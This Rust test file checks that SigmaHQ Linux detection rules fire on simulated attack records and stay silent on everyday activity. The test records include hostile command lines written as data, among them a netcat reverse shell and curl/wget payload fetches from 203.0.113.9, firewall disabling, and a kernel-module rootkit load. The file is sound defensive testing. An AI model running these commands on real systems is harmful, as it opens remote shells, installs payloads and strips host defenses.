//! SigmaHQ's Linux rules, unchanged, over records that mimic real activity.
//! Skipped (with the reason printed) when the corpus is not there.

mod support;

use std::sync::Arc;
use support::*;
use vigil_evaluate::{Evaluator, coverage};
use vigil_proto::v1::{Direction, FileOperation, ProcessRef, TransportProtocol, record::Payload};
use vigil_rules::{EngineConfig, RuleSet};

const CRON_FILE: &str = "6c4e2f43-d94d-4ead-b64d-97e53fa2bd05";
const WGET_TO_TMP: &str = "35a05c60-9012-49b6-a11f-6bab741c9f74";
const BACK_CONNECT_SHELL: &str = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871";
const CALLBACK_PORT: &str = "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376";
const BASE64_DECODE: &str = "e2072cab-8c9a-459b-b63c-40ae79e27031";
const AUDIT_USER_DISCOVERY: &str = "9a0d8ca0-2385-4020-b6c6-cb6153ca56f3";
const AUDIT_SUSP_CMDS: &str = "1543ae20-cbdf-4ec1-8d12-7664d667a825";
const AUDIT_CRED_IN_FILES: &str = "df3fcaea-2715-4214-99c5-0056ea59eb35";
const AUDIT_LD_SO_PRELOAD: &str = "4b3cb710-5e83-4715-8c45-8b2b5b3e5751";
const AUDIT_SYSTEMD_SERVICE: &str = "1bac86ba-41aa-4f62-9d6b-405eac99b485";
const AUDIT_EXE_FOLDERS: &str = "a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc";
const AUDIT_INSMOD: &str = "106d7cbd-80ff-4985-b682-a7043e5acb72";
const AUDIT_WEB_RCE: &str = "c0d3734d-330f-4a03-aae2-65dacc6a8222";

fn linux_rules() -> Option<Arc<RuleSet>> {
    let dir = corpus()?.join("rules/linux");
    let (set, report) = RuleSet::load_paths(&[&dir]);
    assert!(set.len() > 150, "corpus looks incomplete: {report}");
    Some(Arc::new(set))
}

fn bash() -> ProcessRef {
    pref(1000, "/usr/bin/bash", "-bash")
}

/// Malicious-looking records, each with the corpus rule it must fire.
fn attacks() -> Vec<(&'static str, Payload)> {
    let sh = bash();
    let www = pref(2000, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start");
    let mut web_shell = start(2001, "/usr/bin/dash", &["sh", "-c", "id"], "www-data", &www);
    if let Payload::ProcessStart(s) = &mut web_shell {
        (s.uid, s.euid) = (33, 33);
    }
    vec![
        (
            CRON_FILE,
            file(
                FileOperation::Create,
                "/etc/cron.d/x",
                &pref(1001, "/usr/bin/vi", "vi /etc/cron.d/x"),
                "root",
            ),
        ),
        (
            CRON_FILE,
            file(
                FileOperation::Modify,
                "/var/spool/cron/crontabs/root",
                &pref(1002, "/usr/bin/crontab", "crontab -e"),
                "root",
            ),
        ),
        (
            WGET_TO_TMP,
            file(
                FileOperation::Create,
                "/tmp/kinsing",
                &pref(
                    1003,
                    "/usr/bin/wget",
                    "wget -O /tmp/kinsing http://203.0.113.9/k",
                ),
                "alice",
            ),
        ),
        (
            BACK_CONNECT_SHELL,
            outbound("/usr/bin/bash", "203.0.113.9", 443),
        ),
        (
            CALLBACK_PORT,
            outbound("/tmp/.cache/agent", "203.0.113.9", 4444),
        ),
        (
            BASE64_DECODE,
            start(
                1004,
                "/usr/bin/base64",
                &["base64", "-d", "/tmp/p.b64"],
                "alice",
                &sh,
            ),
        ),
        (
            AUDIT_USER_DISCOVERY,
            start(1005, "/usr/bin/whoami", &["whoami"], "alice", &sh),
        ),
        (
            AUDIT_SUSP_CMDS,
            start(
                1006,
                "/usr/bin/chmod",
                &["chmod", "777", "/tmp/x"],
                "alice",
                &sh,
            ),
        ),
        (
            AUDIT_CRED_IN_FILES,
            start(
                1007,
                "/usr/bin/grep",
                &["grep", "-ri", "password", "/etc"],
                "alice",
                &sh,
            ),
        ),
        (
            AUDIT_LD_SO_PRELOAD,
            file(
                FileOperation::Modify,
                "/etc/ld.so.preload",
                &pref(1008, "/usr/bin/tee", "tee -a /etc/ld.so.preload"),
                "root",
            ),
        ),
        (
            AUDIT_SYSTEMD_SERVICE,
            file(
                FileOperation::Create,
                "/etc/systemd/system/evil.service",
                &pref(1009, "/usr/bin/cp", "cp x /etc/systemd/system/evil.service"),
                "root",
            ),
        ),
        (
            AUDIT_EXE_FOLDERS,
            start(1010, "/tmp/xmrig", &["./xmrig"], "alice", &sh),
        ),
        (
            AUDIT_INSMOD,
            start(
                1011,
                "/usr/bin/kmod",
                &["insmod", "/tmp/rk.ko"],
                "root",
                &sh,
            ),
        ),
        (AUDIT_WEB_RCE, web_shell),
        // Any audited syscall of a binary run from /tmp, not only its exec.
        (
            AUDIT_EXE_FOLDERS,
            file(
                FileOperation::Open,
                "/etc/hosts",
                &pref(1012, "/tmp/xmrig", "./xmrig"),
                "alice",
            ),
        ),
    ]
}

/// Everyday activity: none of the rules above may fire.
fn benign() -> Vec<Payload> {
    let sh = bash();
    let systemd = pref(1, "/usr/lib/systemd/systemd", "/sbin/init");
    vec![
        start(
            3000,
            "/usr/bin/ls",
            &["ls", "--color=auto", "-la"],
            "alice",
            &sh,
        ),
        start(3001, "/usr/bin/git", &["git", "status"], "alice", &sh),
        start(
            3002,
            "/usr/bin/base64",
            &["base64", "notes.txt"],
            "alice",
            &sh,
        ),
        start(
            3003,
            "/usr/sbin/cron",
            &["/usr/sbin/cron", "-f"],
            "root",
            &systemd,
        ),
        file(
            FileOperation::CloseWrite,
            "/home/alice/notes.txt",
            &pref(3004, "/usr/bin/vim.basic", "vim notes.txt"),
            "alice",
        ),
        file(
            FileOperation::Create,
            "/home/alice/.cache/thumb.png",
            &pref(3005, "/usr/bin/nautilus", "nautilus"),
            "alice",
        ),
        file(
            FileOperation::Delete,
            "/tmp/tmp.XyZ",
            &pref(3006, "/usr/bin/rm", "rm -f /tmp/tmp.XyZ"),
            "alice",
        ),
        outbound("/usr/lib/firefox/firefox", "93.184.215.14", 443),
        net(
            Direction::Outbound,
            TransportProtocol::Udp,
            ("127.0.0.1", 40000),
            ("127.0.0.53", 53),
            &pref(
                3007,
                "/usr/lib/systemd/systemd-resolved",
                "systemd-resolved",
            ),
        ),
        net(
            Direction::Listen,
            TransportProtocol::Tcp,
            ("0.0.0.0", 8080),
            ("", 0),
            &pref(3008, "/usr/bin/bash", "bash -c python3 -m http.server"),
        ),
    ]
}

#[test]
fn corpus_rules_fire_on_the_activity_they_describe() {
    let Some(set) = linux_rules() else { return };
    let mut ev = Evaluator::new(Arc::clone(&set), EngineConfig::default());
    for (i, (want, p)) in attacks().iter().enumerate() {
        let t = T0 + i as i64 * 1_000_000_000;
        let got = fired(&mut ev, t, p, &[]);
        assert!(
            got.iter().any(|id| id == want),
            "{want} not among {got:?} for {p:?}"
        );
        // The JSON form decides the same.
        assert_eq!(got, fired_via_json(&set, t, p, &[]), "{p:?}");
    }
}

#[test]
fn corpus_rules_stay_quiet_on_everyday_activity() {
    let Some(set) = linux_rules() else { return };
    let mut ev = Evaluator::new(Arc::clone(&set), EngineConfig::default());
    let named: Vec<&str> = attacks().iter().map(|(id, _)| *id).collect();
    for (i, p) in benign().iter().enumerate() {
        let t = T0 + i as i64 * 1_000_000_000;
        let got = fired(&mut ev, t, p, &[]);
        for id in &got {
            assert!(!named.contains(&id.as_str()), "{id} fired on {p:?}");
        }
        // Nothing else either: these are the records every machine makes all day.
        assert!(got.is_empty(), "{got:?} fired on {p:?}");
        assert_eq!(got, fired_via_json(&set, t, p, &[]), "{p:?}");
    }
}

/// A few hundred records of every kind through every Linux rule: nothing
/// panics, the JSON form decides what the evaluator decides, and the
/// coverage numbers are printed.
#[test]
fn the_whole_linux_corpus_over_many_records() {
    let Some(set) = linux_rules() else { return };
    let mut ev = Evaluator::new(Arc::clone(&set), EngineConfig::default());
    let tools = [
        ("/usr/bin/curl", "curl -fsSL http://203.0.113.9/x.sh"),
        (
            "/usr/bin/python3",
            "python3 -c import pty;pty.spawn('/bin/sh')",
        ),
        ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444"),
        ("/usr/bin/find", "find / -perm -4000 -type f"),
        ("/usr/sbin/iptables", "iptables -F"),
        ("/usr/bin/systemctl", "systemctl stop firewalld"),
        ("/usr/bin/chattr", "chattr -i /etc/passwd"),
        ("/usr/bin/tar", "tar -czf /tmp/a.tgz /etc"),
        ("/tmp/.x/é\u{0}odd", ""),
        ("", ""),
    ];
    let paths = [
        "/etc/cron.d/job",
        "/etc/sudoers.d/x",
        "/etc/profile.d/a.sh",
        "/tmp/rootlog",
        "/home/bob/.bashrc",
        "/etc/ld.so.preload",
        "/var/run/haldrund.pid",
        "",
    ];
    let mut records = Vec::new();
    for (i, (exe, cmd)) in tools.iter().enumerate() {
        let argv: Vec<&str> = cmd.split(' ').filter(|a| !a.is_empty()).collect();
        let i = i as u32;
        for user in ["root", "alice"] {
            let parent = pref(10 + i, "/usr/bin/bash", "bash -i");
            let mut p = start(100 + i, exe, &argv, user, &parent);
            records.push(p.clone());
            if let Payload::ProcessStart(s) = &mut p {
                s.argv_missing = true;
                s.argv.clear();
                s.command_line.clear();
            }
            records.push(p);
            let by = pref(100 + i, exe, cmd);
            for (k, path) in paths.iter().enumerate() {
                for op in 0..=9 {
                    let op = FileOperation::try_from(op).unwrap_or(FileOperation::Unspecified);
                    records.push(if k % 2 == 0 {
                        file(op, path, &by, user)
                    } else {
                        rename("/tmp/y", path, &by)
                    });
                }
            }
            for d in 0..=4 {
                for (remote, port) in [
                    ("203.0.113.9", 4444),
                    ("::1", 22),
                    ("", 0),
                    ("not an ip", 70000),
                ] {
                    records.push(net(
                        Direction::try_from(d).unwrap_or(Direction::Unspecified),
                        TransportProtocol::try_from(d % 3)
                            .unwrap_or(TransportProtocol::Unspecified),
                        ("10.0.0.5", 40000),
                        (remote, port),
                        &by,
                    ));
                }
            }
        }
    }
    records.push(Payload::ProcessExit(Default::default()));
    records.push(Payload::Registry(Default::default()));
    assert!(records.len() > 300, "{}", records.len());
    let mut detections = 0;
    let ancestry = [bash(), pref(1, "/usr/lib/systemd/systemd", "/sbin/init")];
    let mut written = Vec::new();
    for (i, p) in records.iter().enumerate() {
        let t = T0 + i as i64 * 1_000_000;
        let got = fired(&mut ev, t, p, &ancestry);
        assert_eq!(got, fired_via_json(&set, t, p, &ancestry), "{p:?}");
        detections += got.len();
        // The streaming writer says exactly what the tree form says.
        let record = vigil_proto::v1::Record {
            sequence: i as u64 + 1,
            time_unix_ns: t,
            payload: Some(p.clone()),
            ..Default::default()
        };
        written.clear();
        let n = vigil_evaluate::write_json_lines(&record, &ancestry, &mut written);
        let streamed: Vec<serde_json::Value> = std::str::from_utf8(&written)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(n, streamed.len());
        assert_eq!(
            streamed,
            vigil_evaluate::to_json_lines(&record, &ancestry),
            "{p:?}"
        );
    }
    let c = coverage(&set);
    eprintln!("{} records, {detections} detections", records.len());
    eprintln!("coverage of rules/linux: {c}");
    assert_eq!(c.rules, set.len());
    assert!(c.fed > 150, "{c}");
}
